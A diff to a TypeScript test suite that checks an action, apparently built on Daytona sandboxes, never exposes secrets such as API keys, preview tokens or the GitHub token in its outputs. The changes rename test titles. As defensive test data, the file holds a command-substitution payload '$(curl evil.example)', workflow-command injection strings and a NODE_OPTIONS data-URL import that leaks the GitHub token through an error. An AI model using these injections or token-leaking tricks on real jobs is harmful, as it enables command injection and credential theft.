@@ -28,7 +28,7 @@ async function run(stage: Stage, fault: Fault): Promise<JobResult> {
   return stage.on('opened', IMAGE, { with: INPUTS, job: { debug: true } });
 }
 
-describe.concurrent('what the server sends back is not told to anybody', () => {
+describe.concurrent('a secret that the server sends back is never exposed', () => {
   it.each<readonly [string, Fault]>([
     [
       'a message',
@@ -69,7 +69,7 @@ describe.concurrent('what the server sends back is not told to anybody', () => {
   it.each([
     ['lines of one letter', 'a long token\na\ne\n'],
     ['words', 'octo-org octo-repo'],
-  ])('%s, in the place of the token of a preview: not masked for the rest of the job', async (_, token) => {
+  ])('%s, in place of a preview token: not masked for the rest of the job', async (_, token) => {
     await using stage = await setStage();
     const result = await run(stage, {
       match: { operationId: 'getPortPreviewUrl' },
@@ -84,7 +84,7 @@ describe.concurrent('what the server sends back is not told to anybody', () => {
     ['commands', 'x\n::error::y\n##[error]z'],
     ['a program for a shell', '$(curl evil.example)'],
     ['the token', ''],
-  ])('%s, as a state: no output has it', async (_, text) => {
+  ])('%s, as a state: not in any output', async (_, text) => {
     await using stage = await setStage();
     const state = text || stage.daytona.apiKey;
     const result = await run(stage, { match: { operationId: 'getSandbox' }, kind: 'rewrite', rewrite: { state } });
@@ -93,7 +93,7 @@ describe.concurrent('what the server sends back is not told to anybody', () => {
     expect(result.main.outputs.result).not.toContain(JSON.stringify(state).slice(1, -1));
   });
 
-  it('the token for GitHub, in the words of an error that nobody foresaw', async () => {
+  it('the GitHub token, in the message of an unexpected error', async () => {
     await using stage = await setStage({ timings: { pull: 10 } });
     const script = `if (process.argv[1]?.endsWith('index.js')) setTimeout(() => { throw Error(process.env['INPUT_GITHUB-TOKEN']); }, 500);`;
     const env = { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(script)}` };
